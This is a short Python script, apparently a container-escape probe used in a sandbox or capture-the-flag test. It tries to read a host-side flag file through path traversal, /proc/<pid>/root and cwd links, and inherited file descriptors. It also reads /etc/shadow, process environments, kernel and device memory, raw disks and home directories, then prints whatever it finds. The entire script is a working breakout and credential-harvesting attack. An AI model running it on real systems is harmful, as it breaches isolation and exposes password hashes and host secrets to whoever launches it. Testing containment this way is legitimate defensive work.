# Reads what belongs to the host: the flag itself, by every way that leads out of a careless container, and its secrets.
import os
import sys

got = []


def attempt(path):
    try:
        with open(path, "rb") as file:
            data = file.read(100)
    except OSError:
        return
    if data:  # what is hidden may be there, and empty
        got.append(f"{path}: {data!r}")


for line in sys.stdin:
    kind, *rest = line.split()
    if kind == "file":
        flag = rest[0]
        attempt(flag)
        attempt("/.." * 20 + flag)
        for pid in filter(str.isdecimal, os.listdir("/proc")):
            attempt(f"/proc/{pid}/root{flag}")
            attempt(f"/proc/{pid}/cwd{flag}")
        for fd in range(3, 1024):
            attempt(f"/proc/self/fd/{fd}{flag}")
            attempt(f"/proc/self/fd/{fd}")

for path in "/etc/shadow", "/etc/gshadow", "/proc/1/environ", "/proc/1/mem", "/proc/kcore", "/proc/sysrq-trigger", "/dev/mem", "/dev/sda", "/dev/vda":
    attempt(path)
for home in "/root", "/home":
    try:
        got += [f"{home}/{name}" for name in os.listdir(home) if os.listdir(f"{home}/{name}")]
    except OSError:
        pass
print("\n".join(got) or "nothing")
